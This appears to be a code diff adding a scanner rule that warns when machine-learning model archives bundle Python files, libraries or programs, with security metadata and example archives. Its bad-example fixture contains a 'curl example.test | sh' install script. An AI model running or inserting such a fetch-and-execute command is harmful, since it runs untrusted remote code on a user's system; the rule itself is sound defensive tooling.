@@ -1,0 +1,75 @@
+import type { ArchiveFacts } from '../../formats/facts.ts';
+import { bytePlace, quoted } from '../place.ts';
+import { defineRule } from '../rule.ts';
+
+const scripts = /\.(?:py|pyc|pyw)$/i;
+const programs = /\.(?:so(?:\.[\d.]+)?|dll|dylib|exe|sh|bash|bat|cmd|ps1|jar|scr|com|msi)$/i;
+
+export const bundledCode = defineRule({
+  subject: 'archive',
+  meta: {
+    id: 'archive/bundled-code',
+    title: 'A model archive brings code along',
+    severity: 'warning',
+    description:
+      'An archive that is a model (Keras, NeMo, PyTorch, skops) holds Python files, libraries or programs, which have no place in it. In a TorchServe archive a Python handler belongs there: it is information, and only libraries and programs are a warning.',
+    why: 'TorchServe runs the handler of every archive it loads, and installs its requirements where that is configured. In other archives nobody looks for a program, until something that the model does runs it.',
+    howToFix: 'Read the code before you serve or unpack the archive. Ask why it is there.',
+    avoid: [
+      {
+        file: 'model.keras',
+        zip: [
+          { name: 'metadata.json', text: '{}' },
+          { name: 'config.json', text: '{}' },
+          { name: 'assets/install.sh', text: 'curl example.test | sh\n' },
+        ],
+      },
+    ],
+    prefer: [
+      {
+        file: 'model.keras',
+        zip: [
+          { name: 'metadata.json', text: '{}' },
+          { name: 'config.json', text: '{}' },
+          { name: 'assets/vocabulary.txt', text: 'a\nb\n' },
+        ],
+      },
+    ],
+    references: [
+      { title: 'TorchServe documentation: security', url: 'https://github.com/pytorch/serve/blob/master/SECURITY.md' },
+    ],
+    cwe: [829],
+    atlas: ['AML.T0010.003', 'AML.T0011.000'],
+    owasp: ['ML06:2023', 'LLM03:2025'],
+    nistAiRmf: ['MAP 4.1'],
+    euAiAct: ['Article 15(5)'],
+    since: '0.2.0',
+  },
+  check(part, report) {
+    const kind = modelKind(part);
+    if (kind === null) return;
+    // PyTorch's own archives keep compiled models below `code/`.
+    const files = part.entries.filter(({ name }) => !(kind === 'torch' && /(?:^|\/)code\//.test(name)));
+    const told = files.filter(({ name }) => programs.test(name));
+    const read = files.filter(({ name }) => scripts.test(name));
+    const [first] = told.length > 0 ? told : read;
+    if (!first) return;
+    const all = [...told, ...read].map(({ name }) => name);
+    const more = all.length > 1 ? ` and ${all.length - 1} more` : '';
+    report({
+      message: `The archive brings code along: ${quoted(first.name)}${more}. Read it before you ${kind === 'torchserve' ? 'serve' : 'unpack or load'} the model.`,
+      severity: kind === 'torchserve' && told.length === 0 ? 'info' : 'warning',
+      location: bytePlace(part, first.offset),
+      evidence: { files: all.slice(0, 50) },
+    });
+  },
+});
+
+function modelKind({ entries }: ArchiveFacts): 'torchserve' | 'keras' | 'torch' | 'nemo' | 'skops' | null {
+  const names = new Set(entries.map(({ name }) => name.toLowerCase().replace(/^\.\//, '')));
+  if (names.has('mar-inf/manifest.json')) return 'torchserve';
+  if (names.has('config.json') && names.has('metadata.json')) return 'keras';
+  if (names.has('model_config.yaml')) return 'nemo';
+  if (names.has('schema.json') && [...names].every((name) => !name.includes('/'))) return 'skops';
+  return [...names].some((name) => /^(?:[^/]+\/)?data\.pkl$/.test(name)) ? 'torch' : null;
+}
